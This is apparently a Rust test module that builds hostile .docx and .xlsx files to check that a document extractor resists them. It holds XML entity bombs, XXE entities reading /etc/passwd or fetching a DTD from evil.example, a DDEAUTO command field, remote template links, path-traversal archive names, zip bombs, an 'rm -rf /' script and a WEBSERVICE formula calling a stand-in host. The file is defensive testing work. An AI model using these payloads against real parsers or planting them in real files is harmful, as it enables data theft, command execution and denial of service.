//! Hostile Word and Excel documents.

use switchboard_schemas::file::FileType::{Docx, Xlsx};

use super::{HostileFile, case, cuts, with_changed_bits};
use crate::files::tests::samples::{
    archive, docx, paragraph, relations, sheet_row, word_part, xlsx,
};

/// Unpacked size of bombs, in bytes.
const BOMB_BYTES: usize = 40 << 20;
const WORKBOOK_BOMB_BYTES: usize = 130 << 20;
/// Declares an entity that grows to a billion words.
const LAUGHS: &str = r#"<!DOCTYPE d [<!ENTITY a "haha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">
<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;">]>"#;
const EXTERNAL: &str = r#"<!DOCTYPE d [<!ENTITY a SYSTEM "file:///etc/passwd">]>"#;
const PARAMETER: &str = r#"<!DOCTYPE d [<!ENTITY % a SYSTEM "http://evil.example/a.dtd"> %a;]>"#;

pub(super) fn files() -> Vec<HostileFile> {
    [
        entities(),
        markup(),
        references(),
        archives(),
        damaged_archives(),
        containers(),
        sheets(),
        values(),
    ]
    .into_iter()
    .flatten()
    .collect()
}

/// A document whose main part has a declaration before it.
fn declared(declaration: &str, text: &str) -> Vec<u8> {
    let part = word_part(&paragraph(text)).replacen("?>", &format!("?>{declaration}"), 1);
    archive(&[("word/document.xml", part.as_bytes())])
}

fn entities() -> Vec<HostileFile> {
    let sheet = "<sheetData><row r=\"1\"><c r=\"A1\" t=\"inlineStr\"><is><t>&a;</t></is></c></row></sheetData>";
    vec![
        case(
            "entity that grows to a billion words",
            Docx,
            declared(LAUGHS, "&d;"),
        ),
        case(
            "entity that is a local file",
            Docx,
            declared(EXTERNAL, "&a;"),
        )
        .without("root"),
        case("declaration on a server", Docx, declared(PARAMETER, "x")),
        case(
            "entity that is not declared",
            Docx,
            docx(&paragraph("&b;"), &[]),
        ),
        case("Excel: entity that is not declared", Xlsx, xlsx(sheet, &[])).without("root"),
        case(
            "character that does not exist",
            Docx,
            docx(&paragraph("&#x110000;"), &[]),
        ),
    ]
}

fn markup() -> Vec<HostileFile> {
    let deep = format!("{}x{}", "<w:p>".repeat(200_000), "</w:p>".repeat(200_000));
    let attributes: String = (0..200_000)
        .map(|number| format!(" a{number}=\"\""))
        .collect();
    let field = "<w:p><w:r><w:instrText>DDEAUTO cmd /c calc</w:instrText></w:r><w:r><w:t>ok</w:t></w:r></w:p>";
    let hidden = "<w:p><w:r><w:rPr><w:vanish/></w:rPr><w:t>hidden</w:t></w:r></w:p>";
    let crossed = "<w:p><w:r></w:p></w:r>";
    vec![
        case("200,000 nested paragraphs", Docx, docx(&deep, &[])),
        case(
            "element with 200,000 attributes",
            Docx,
            docx(&format!("<w:p{attributes}/>"), &[]),
        ),
        case(
            "markup that ends early",
            Docx,
            docx("<w:p><w:r><w:t>a", &[]),
        ),
        case(
            "markup that is closed in the wrong order",
            Docx,
            docx(crossed, &[]),
        ),
        case("command in a field", Docx, docx(field, &[]))
            .with("ok")
            .without("DDEAUTO"),
        case("hidden text", Docx, docx(hidden, &[])).with("hidden"),
        case("no text", Docx, docx("<w:p/>", &[])),
    ]
}

/// A document with a paragraph and another part.
fn with_part(name: &str, content: &[u8]) -> Vec<u8> {
    docx(&paragraph("ok"), &[(name, content)])
}

fn references() -> Vec<HostileFile> {
    let template = relations("http://evil.example/t.dotm", "External");
    let template = with_part("word/_rels/settings.xml.rels", template.as_bytes());
    let linked = relations("http://evil.example/document.xml", "External");
    let part = word_part(&paragraph("inside"));
    let linked = archive(&[
        ("_rels/.rels", linked.as_bytes()),
        ("word/document.xml", part.as_bytes()),
    ]);
    let outside = relations("../../../etc/passwd", "Internal");
    let outside = archive(&[("_rels/.rels", outside.as_bytes())]);
    let macros = with_part("word/vbaProject.bin", b"AutoOpen");
    let program = with_part("word/embeddings/oleObject1.bin", b"MZ\x90");
    vec![
        case("template on a server", Docx, template).with("ok"),
        case("main part on a server", Docx, linked).with("inside"),
        case("main part outside of the archive", Docx, outside).without("root"),
        case("macros", Docx, macros).with("ok").without("AutoOpen"),
        case("embedded program", Docx, program)
            .with("ok")
            .without("MZ"),
    ]
}

fn archives() -> Vec<HostileFile> {
    let bomb = vec![b' '; BOMB_BYTES];
    let inner = archive(&[("inner", &bomb)]);
    let names: Vec<String> = (0..10_001).map(|number| number.to_string()).collect();
    let many: Vec<(&str, &[u8])> = names.iter().map(|name| (&name[..], &b""[..])).collect();
    let paths: [(&str, &[u8]); 3] = [
        ("../../../etc/passwd", b"root"),
        ("/etc/passwd", b"root"),
        ("C:\\windows\\win.ini", b"root"),
    ];
    let paths = docx(&paragraph("ok"), &paths);
    vec![
        case(
            "main part of 40 MB",
            Docx,
            archive(&[("word/document.xml", &bomb)]),
        ),
        case(
            "header of 40 MB",
            Docx,
            with_part("word/header1.xml", &bomb),
        )
        .with("ok"),
        case(
            "archives within archives",
            Docx,
            with_part("word/media/a.zip", &inner),
        )
        .with("ok"),
        case("10,001 parts", Docx, archive(&many)),
        case("names of parts that are paths", Docx, paths)
            .with("ok")
            .without("root"),
        case(
            "archive without parts of Word",
            Docx,
            archive(&[("run.sh", b"rm -rf /")]),
        ),
        case("archive without parts", Docx, archive(&[])),
    ]
}

fn damaged_archives() -> Vec<HostileFile> {
    let document = docx(&paragraph(&"some words ".repeat(50)), &[]);
    let (first, second) = (word_part(&paragraph("ok")), word_part(&paragraph("second")));
    let twice = archive(&[
        ("word/document.xml", first.as_bytes()),
        ("word/documenX.xml", second.as_bytes()),
    ]);
    let mut sizes = document.clone();
    for place in places(&sizes, b"PK\x01\x02") {
        sizes[place + 24..place + 28].copy_from_slice(&u32::MAX.to_be_bytes());
    }
    let mut encrypted = document.clone();
    for place in places(&encrypted, b"PK\x01\x02") {
        encrypted[place + 8] |= 1;
    }
    for place in places(&encrypted, b"PK\x03\x04") {
        encrypted[place + 6] |= 1;
    }
    let html = [b"<script>alert(1)</script>", &document[..]].concat();
    vec![
        case(
            "two main parts",
            Docx,
            replaced(twice, b"documenX", b"document"),
        ),
        case("encrypted parts", Docx, encrypted),
        case("parts that claim 4 GB", Docx, sizes),
        case("HTML before the archive", Docx, html).without("alert"),
        HostileFile::group("archive that ends early", Docx, cuts(&document)),
        HostileFile::group(
            "one changed bit, 300 files",
            Docx,
            with_changed_bits(&document, 300),
        ),
    ]
}

fn containers() -> Vec<HostileFile> {
    let start = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1";
    let name: Vec<u8> = "EncryptedPackage"
        .encode_utf16()
        .flat_map(u16::to_le_bytes)
        .collect();
    let encrypted = [&start[..], &[0; 504], &name].concat();
    vec![
        case("no bytes", Docx, ""),
        case("one byte", Xlsx, "P"),
        case("Word document with a password", Docx, encrypted.clone()),
        case("workbook with a password", Xlsx, encrypted),
        case(
            "Word document of the year 2003",
            Docx,
            [&start[..], &[0; 1000]].concat(),
        ),
        case(
            "workbook, as Word document",
            Docx,
            xlsx("<sheetData/>", &[]),
        ),
        case(
            "Word document, as workbook",
            Xlsx,
            docx(&paragraph("ok"), &[]),
        ),
        case(
            "RTF, as Word document",
            Docx,
            r"{\rtf1\object\objdata 0105}",
        ),
    ]
}

/// A workbook with rows.
fn book(rows: &str) -> Vec<u8> {
    xlsx(&format!("<sheetData>{rows}</sheetData>"), &[])
}

fn sheets() -> Vec<HostileFile> {
    let texts = br#"<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="4294967295" uniqueCount="4294967295"></sst>"#;
    let row = sheet_row(1, &[("A", "ok")]);
    let dimension = format!("<dimension ref=\"A1:XFD1048576\"/><sheetData>{row}</sheetData>");
    let row_of_two = |row| sheet_row(row, &[("A", "some text"), ("B", "x")]);
    let many: String = (1..=50_000).map(row_of_two).collect();
    let bomb = vec![b' '; WORKBOOK_BOMB_BYTES];
    let with_texts = |texts: &[u8]| xlsx("<sheetData/>", &[("xl/sharedStrings.xml", texts)]);
    let macros = xlsx(
        &format!("<sheetData>{row}</sheetData>"),
        &[("xl/vbaProject.bin", b"AutoOpen")],
    );
    let small = book(&row_of_two(1));
    vec![
        case(
            "sheet that claims 17 billion cells",
            Xlsx,
            xlsx(&dimension, &[]),
        )
        .with("ok"),
        case("50,000 rows", Xlsx, book(&many)),
        case("4 billion announced texts", Xlsx, with_texts(texts)),
        case("texts of 130 MB", Xlsx, with_texts(&bomb)),
        case("macros in a workbook", Xlsx, macros)
            .with("ok")
            .without("AutoOpen"),
        case("workbook without values", Xlsx, book("")),
        HostileFile::group("workbook that ends early", Xlsx, cuts(&small)),
        HostileFile::group(
            "workbook with one changed bit, 200 files",
            Xlsx,
            with_changed_bits(&small, 200),
        ),
    ]
}

fn values() -> Vec<HostileFile> {
    let index = "<row r=\"1\"><c r=\"A1\" t=\"s\"><v>4294967295</v></c></row>";
    let formula =
        "<row r=\"1\"><c r=\"A1\"><f>WEBSERVICE(\"http://evil.example\")</f><v>7</v></c></row>";
    let cell = |row, column, text| book(&sheet_row(row, &[(column, text)]));
    vec![
        case(
            "value in the last cell of a sheet",
            Xlsx,
            cell(1_048_576, "XFD", "far"),
        ),
        case(
            "cell beyond the last column",
            Xlsx,
            cell(1, "ZZZZZZZ", "far"),
        ),
        case("text that does not exist", Xlsx, book(index)),
        case("formula that calls a server", Xlsx, book(formula))
            .with("7")
            .without("WEBSERVICE"),
        case("text that looks like a formula", Xlsx, cell(1, "A", "=1+1")).with("=1+1"),
        case(
            "quotes and line breaks in a cell",
            Xlsx,
            cell(1, "A", "\"a\",\nb"),
        )
        .with("\"\"\"a\"\",\nb\""),
    ]
}

/// Returns the places of bytes in a file.
fn places(file: &[u8], bytes: &[u8]) -> Vec<usize> {
    let places = file.windows(bytes.len()).enumerate();
    let places = places.filter(|(_, found)| *found == bytes);
    places.map(|(place, _)| place).collect()
}

/// Replaces all occurrences of bytes by others of the same length.
fn replaced(mut file: Vec<u8>, from: &[u8], to: &[u8]) -> Vec<u8> {
    for place in places(&file, from) {
        file[place..place + from.len()].copy_from_slice(to);
    }
    file
}
